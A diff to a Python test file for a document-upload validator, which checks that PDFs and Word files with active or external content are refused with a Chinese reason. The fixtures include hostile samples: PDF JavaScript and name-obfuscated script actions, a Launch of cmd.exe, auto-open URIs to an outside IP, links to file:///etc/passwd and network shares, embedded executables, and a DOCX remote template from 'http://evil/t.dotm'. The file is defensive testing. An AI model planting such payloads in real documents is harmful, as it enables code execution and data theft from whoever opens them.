@@ -5,17 +5,17 @@ from __future__ import annotations
 import contextlib
 import io
 import zipfile
+from typing import Any
 
+import pikepdf
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from custodes.people.papers.kinds import DOSSIER, SCANS, find_kind
-from custodes.people.papers.limits import Limits
-from custodes.people.papers.refusal import PaperRefused
+from custodes.people.papers.kinds import DOSSIER, SCANS, PaperLimits, PaperRefused, find_kind
 from tests.people.papers.samples import docx, object_stream, ofd, package, pdf, picture, xlsx
 
-LIMITS = Limits(bytes=1 << 20, unpacked=4 << 20, pixels=1_000_000)
+LIMITS = PaperLimits(bytes=1 << 20, unpacked=4 << 20, pixels=1_000_000, processor_s=20)
 
 
 def found(data: bytes, name: str, said: str = "", kinds=DOSSIER) -> str:
@@ -84,29 +84,68 @@ def test_a_letter_takes_scans_alone() -> None:
     assert "DOCX" in refused(docx(), "授权书.docx", kinds=SCANS)
 
 
+JAVASCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
+LINK = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (%s) >> >>]"
+
+
 @pytest.mark.parametrize(
-    "body",
+    ("made", "said"),
     [
-        b"3 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj",
-        b"3 0 obj\n<< /S /J#61vaScript /J#53 (x) >>\nendobj",
-        b"3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj",
-        b"3 0 obj\n<< /Names << /EmbeddedFiles 4 0 R >> >>\nendobj",
-        object_stream(b"3 0 << /S /JavaScript /JS (x) >>"),
+        (pdf(b"3 0 obj\n%s\nendobj" % JAVASCRIPT), "脚本"),
+        (pdf(b"3 0 obj\n<< /S /J#61vaScript /J#53 (x) >>\nendobj"), "脚本"),
+        (pdf(b"3 0 obj\n<< /S 4 0 R /X (x) >>\nendobj\n4 0 obj\n/JavaScript\nendobj"), "脚本"),
+        (pdf(b"3 0 obj\n<< /S /Rendition /R << /S /MR >> >>\nendobj"), "脚本"),
+        (pdf(object_stream(b"3 0 " + JAVASCRIPT)), "脚本"),
+        (pdf(object_stream(b"3 0 << /OpenAction 4 0 R >>")), "OpenAction"),
+        (pdf(catalog=b"/OpenAction << /S /URI /URI (http://198.51.100.7/x) >>"), "OpenAction"),
+        (pdf(b"3 0 obj\n<< /S /URI /URI (http://a/) >>\nendobj", catalog=b"/OpenAction 3 0 R"), "OpenAction"),
+        (pdf(catalog=b"/OpenAction << /S /GoTo /D [9 0 R /Fit] /Next << /S /URI /URI (http://a/) >> >>"), "OpenAction"),
+        (pdf(page=b"/AA << /O << /S /URI /URI (http://a/) >> >>"), "OpenAction"),
+        (pdf(b"3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj"), "启动其他程序"),
+        (pdf(page=b"/Annots [<< /Subtype /Link /A << /S /GoToR /F (\\\\\\\\host\\\\a.pdf) >> >>]"), "文件以外"),
+        (pdf(page=LINK % b"file:///etc/passwd"), "文件以外"),
+        (pdf(page=LINK % b"\\\\\\\\198.51.100.7\\\\share"), "文件以外"),
+        (pdf(b"3 0 obj\n<< /Length 0 /F (other.bin) >>\nstream\n\nendstream\nendobj"), "文件以外"),
+        (pdf(b"3 0 obj\n<< /Subtype /Form /Ref << /F (other.pdf) >> >>\nendobj"), "文件以外"),
+        (pdf(b"3 0 obj\n<< /S /SubmitForm /F (http://a/) >>\nendobj"), "提交"),
+        (pdf(b"3 0 obj\n<< /S /ImportData /F (a.fdf) >>\nendobj"), "提交"),
+        (pdf(catalog=b"/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec >>] >> >>"), "夹带"),
+        (pdf(b"3 0 obj\n<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream\nendobj"), "夹带"),
+        (pdf(page=b"/Annots [<< /Subtype /FileAttachment /FS << /EF << /F 9 0 R >> >> >>]"), "夹带"),
+        (pdf(page=b"/Annots [<< /Subtype /RichMedia >>]"), "三维"),
+        (pdf(catalog=b"/AcroForm << /XFA [(a) 9 0 R] >>"), "XFA"),
     ],
 )
-def test_a_pdf_with_active_content_is_refused(body: bytes) -> None:
-    assert "打印为 PDF" in refused(pdf(body), "合同.pdf")
+def test_a_pdf_with_active_content_is_refused_and_told_which(made: bytes, said: str) -> None:
+    assert said in refused(made, "合同.pdf")
 
 
-def test_a_locked_pdf_is_refused_and_bytes_of_a_picture_inside_are_no_script() -> None:
-    assert "密码" in refused(pdf(b"3 0 obj\n<< /Encrypt 4 0 R >>\nendobj"), "合同.pdf")
-    image = b"3 0 obj\n<< /Subtype /Image /Length 5 >>\nstream\n /JS \nendstream\nendobj"
-    assert found(pdf(image), "合同.pdf") == "pdf"
+@pytest.mark.parametrize(
+    "made",
+    [
+        pdf(catalog=b"/OpenAction [9 0 R /Fit]"),
+        pdf(catalog=b"/OpenAction << /S /GoTo /D [9 0 R /XYZ 0 0 1] >>"),
+        pdf(page=LINK % b"https://www.example.cn/"),
+        pdf(b"3 0 obj\n<< /Subtype /Image /Length 5 >>\nstream\n /JS \nendstream\nendobj"),
+        pdf(b"3 0 obj\n<< /Title (about /JS and /Launch) >>\nendobj"),
+        pdf(page=b"/Resources << /Font << /JS 4 0 R /Launch 4 0 R >> >>"),
+        pdf(b"3 0 obj\n<< /Type /StructElem /S /P /Ref [9 0 R] >>\nendobj"),
+    ],
+)
+def test_what_programs_that_write_pdf_add_is_taken(made: bytes) -> None:
+    assert found(made, "合同.pdf") == "pdf"
 
 
-def test_an_object_stream_that_unpacks_to_too_much_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr("custodes.people.papers.pdf._MOST_UNPACKED", 1000)
-    assert "过大" in refused(pdf(object_stream(b" " * 5000)), "合同.pdf")
+@pytest.mark.parametrize("of", [{"R": 6}, {"R": 4}, {"R": 3, "aes": False, "metadata": False}])
+@pytest.mark.parametrize("user", ["", "0471"])
+def test_a_locked_pdf_is_refused(user: str, of: dict[str, Any]) -> None:
+    locked = io.BytesIO()
+    with pikepdf.open(io.BytesIO(pdf())) as plain:
+        plain.save(locked, encryption=pikepdf.Encryption(user=user, owner="0471", **of))
+    assert "密码" in refused(locked.getvalue(), "合同.pdf")
+
+
+TEMPLATE = '<R><Relationship Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/></R>'
 
 
 @pytest.mark.parametrize(
@@ -115,15 +154,17 @@ def test_an_object_stream_that_unpacks_to_too_much_is_refused(monkeypatch: pytes
         docx({"word/vbaProject.bin": b"x"}),
         docx(types='<Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
         docx({"word/embeddings/oleObject1.bin": b"x"}),
-        docx(
-            {
-                "word/_rels/settings.xml.rels": '<R><Relationship Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/></R>'
-            }
-        ),
+        docx({"word/_rels/settings.xml.rels": TEMPLATE}),
+        docx({"word/_rels/settings.xml.RELS": TEMPLATE}),
     ],
 )
 def test_a_document_with_macros_objects_or_templates_from_elsewhere_is_refused(made: bytes) -> None:
     assert "宏" in refused(made, "方案.docx")
+
+
+def test_a_document_whose_parts_differ_by_case_alone_is_refused() -> None:
+    """We would read one list of types, and who opens it perhaps the other."""
+    assert "结构不正常" in refused(docx({"[content_types].xml": "<Types/>"}), "方案.docx")
 
 
 def test_a_hyperlink_leads_nowhere_by_itself() -> None:
